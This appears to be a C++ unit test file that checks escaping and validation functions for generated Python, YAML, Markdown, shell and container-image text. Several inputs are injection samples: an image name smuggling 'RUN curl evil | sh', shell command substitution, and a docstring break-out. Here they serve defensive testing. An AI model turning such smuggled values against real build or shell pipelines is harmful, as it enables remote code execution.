// The escapes every string goes through on its way into generated code and
// configuration (issue 29): each result is one line, and Python, YAML and
// the shell read it back as the original (the export tests check that with
// the real readers; these pin the spelling and the edge cases).
#include <deepcanvas/errors.h>
#include <deepcanvas/escape.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

namespace dc {
namespace {

using namespace escape;

TEST(Escape, PythonStringsEscapeQuotesBackslashesAndEveryLineBreak) {
  EXPECT_EQ(py_str("plain"), "\"plain\"");
  EXPECT_EQ(py_str("a\"b\\c"), "\"a\\\"b\\\\c\"");
  EXPECT_EQ(py_str("x\ny\rz\t"), "\"x\\ny\\rz\\t\"");
  EXPECT_EQ(py_str(std::string("n\0l", 3)), "\"n\\x00l\"");
  EXPECT_EQ(py_str("\x1b[31m"), "\"\\x1B[31m\"");
  // U+2028, U+0085 and a right-to-left override: escaped; other text kept.
  EXPECT_EQ(py_str("a\u2028b\u0085c\u202e"), "\"a\\u2028b\\x85c\\u202E\"");
  EXPECT_EQ(py_str("Фото ✓"), "\"Фото ✓\"");
  // Invalid UTF-8: a stray continuation byte, an overlong '/', a surrogate.
  EXPECT_EQ(py_str("\x80"), "\"\\uFFFD\"");
  EXPECT_EQ(py_str("\xc0\xaf"), "\"\\uFFFD\\uFFFD\"");
  EXPECT_EQ(py_str("\xed\xa0\x80"), "\"\\uFFFD\\uFFFD\\uFFFD\"");
  EXPECT_EQ(py_str("truncated \xe2\x82"), "\"truncated \\uFFFD\\uFFFD\"");
  EXPECT_EQ(py_str("\U0001F600"), "\"\U0001F600\"");
  EXPECT_EQ(py_str("\U000EFFFF"), "\"\\U000EFFFF\"");  // a noncharacter
}

TEST(Escape, DocstringTextCannotCloseItsString) {
  EXPECT_EQ(py_text("\"\"\"\nimport os"), "\\\"\\\"\\\"\\nimport os");
  EXPECT_EQ(py_text("ends with \\"), "ends with \\\\");
}

TEST(Escape, JsonBecomesAPythonLiteral) {
  const nlohmann::json j = nlohmann::json::parse(
      R"({"name": "a'''\"b", "n": 3, "lr": 0.001, "on": true, "off": null, "v": [1, 2.5],
          "empty": {}, "big": 1e308})");
  const std::string lit = py_literal(j, 0);
  EXPECT_NE(lit.find("\"name\": \"a'''\\\"b\","), std::string::npos) << lit;
  EXPECT_NE(lit.find("\"n\": 3,"), std::string::npos) << lit;
  EXPECT_NE(lit.find("\"lr\": 0.001,"), std::string::npos) << lit;
  EXPECT_NE(lit.find("\"on\": True,"), std::string::npos) << lit;
  EXPECT_NE(lit.find("\"off\": None,"), std::string::npos) << lit;
  EXPECT_NE(lit.find("\"empty\": {},"), std::string::npos) << lit;
  EXPECT_NE(lit.find("    1,\n"), std::string::npos) << lit;
  EXPECT_EQ(py_literal(nlohmann::json(std::nan("")), 0), "None");
}

TEST(Escape, YamlScalarsEscapeTheLineBreaksOfYaml11) {
  EXPECT_EQ(yaml_str("a\n---\nkind: Pod"), "\"a\\n---\\nkind: Pod\"");
  EXPECT_EQ(yaml_str("k\u2028x: y"), "\"k\\u2028x: y\"");
  EXPECT_EQ(yaml_str("k\u0085x"), "\"k\\x85x\"");
  EXPECT_EQ(yaml_str("\"quoted\" # not a comment"), "\"\\\"quoted\\\" # not a comment\"");
}

TEST(Escape, CommentsAndProseStayOnOneLine) {
  EXPECT_EQ(line_text("a\nRUN touch x"), "a\\nRUN touch x");
  EXPECT_EQ(line_text("a\u2029b"), "a\\u2029b");
  EXPECT_EQ(line_text("bad \xff byte"), "bad \\xFF byte");
  EXPECT_EQ(md_text("<img src=x> [a](b) | `c` *d* _e_"),
            "\\<img src=x\\> \\[a\\](b) \\| \\`c\\` \\*d\\* \\_e\\_");
  EXPECT_EQ(md_code("plain"), "`plain`");
  EXPECT_EQ(md_code("a`b"), "``a`b``");
  EXPECT_EQ(md_code("`x``"), "``` `x`` ```");
}

TEST(Escape, ShellWordsAreBareQuotedOrAnsiC) {
  EXPECT_EQ(sh_word("/data/fashion-mnist_1.0"), "/data/fashion-mnist_1.0");
  EXPECT_EQ(sh_word(""), "''");
  EXPECT_EQ(sh_word("my photos"), "'my photos'");
  EXPECT_EQ(sh_word("$(touch x); `y`"), "'$(touch x); `y`'");
  EXPECT_EQ(sh_word("it's"), "'it'\\''s'");
  EXPECT_EQ(sh_word("Фото"), "'Фото'");
  EXPECT_EQ(sh_word("a\nb'c\\"), "$'a\\x0Ab\\'c\\\\'");
  EXPECT_EQ(sh_word("\xff"), "$'\\xFF'");
}

TEST(Escape, FixedFormsAreCheckedNotEscaped) {
  EXPECT_EQ(k8s_name("sample-cnn", "job"), "sample-cnn");
  EXPECT_THROW(k8s_name("Sample", "job"), Error);
  EXPECT_THROW(k8s_name("-x", "job"), Error);
  EXPECT_THROW(k8s_name(std::string(64, 'a'), "job"), Error);
  EXPECT_EQ(decimal("4", "GPUS"), "4");
  EXPECT_THROW(decimal("4\nx", "GPUS"), Error);
  EXPECT_EQ(image_ref("nvcr.io/nvidia/pytorch:24.01-py3", "--image"),
            "nvcr.io/nvidia/pytorch:24.01-py3");
  try {
    image_ref("ubuntu\nRUN curl evil | sh", "--image");
    FAIL() << "an image with a newline was accepted";
  } catch (const Error& e) {
    EXPECT_NE(std::string(e.what()).find("--image 'ubuntu\\nRUN"), std::string::npos) << e.what();
  }
  EXPECT_THROW(apply("html", "x", "X"), Error);
}

}  // namespace
}  // namespace dc
